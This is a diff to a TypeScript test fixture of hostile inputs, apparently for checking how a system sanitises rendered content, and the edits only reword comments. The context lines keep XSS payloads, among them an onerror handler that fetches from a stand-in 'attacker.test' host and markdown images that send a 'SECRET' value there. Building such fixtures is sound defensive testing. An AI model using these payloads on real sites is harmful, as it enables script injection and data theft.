@@ -1,7 +1,7 @@
 import { answer, asked, choiceOf } from './answer.ts'
 import type { ZooAnimal } from './zoo-animal.ts'
 
-/** The host that must never be asked: every payload below tries to reach it. */
+/** The host that must never be asked; every payload below tries to reach it. */
 export const ATTACKER = 'http://attacker.test'
 
 /** Scripts and markup in content. */
@@ -34,7 +34,7 @@ const MARKUP: readonly (readonly [name: string, text: string])[] = [
   ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; and &amp;lt;img src=x onerror=alert(1)&amp;gt;'],
 ]
 
-/** Markdown and links (L rows). */
+/** Markdown and links in content. */
 const MARKDOWN: readonly (readonly [name: string, text: string])[] = [
   ['remoteImage', `![the chart](${ATTACKER}/?q=SECRET)`],
   ['referenceImage', `![alt][r]\n\n[r]: ${ATTACKER}/l2`],
@@ -63,7 +63,7 @@ const MARKDOWN: readonly (readonly [name: string, text: string])[] = [
 
 const HOSTILE_TEXT = `"><img src=x onerror="fetch('${ATTACKER}/x24')">`
 
-/** Hostile text everywhere but in the content: names, reasons, metadata, citations, arguments. */
+/** Hostile text outside of the content: names, reasons, metadata, citations, arguments. */
 const ELSEWHERE: readonly ZooAnimal[] = [
   {
     name: 'hostileNames',
@@ -126,7 +126,7 @@ const rows = (kind: string, list: typeof MARKUP): ZooAnimal[] =>
     request: asked(text),
   }))
 
-/** Hostile (X) and very large (L) values as completions. Not part of the sample. */
+/** Completions with hostile or very large values. Not part of the sample. */
 export const HOSTILE_ANIMALS: readonly ZooAnimal[] = [
   ...rows('markup', MARKUP),
   ...rows('markdown', MARKDOWN),
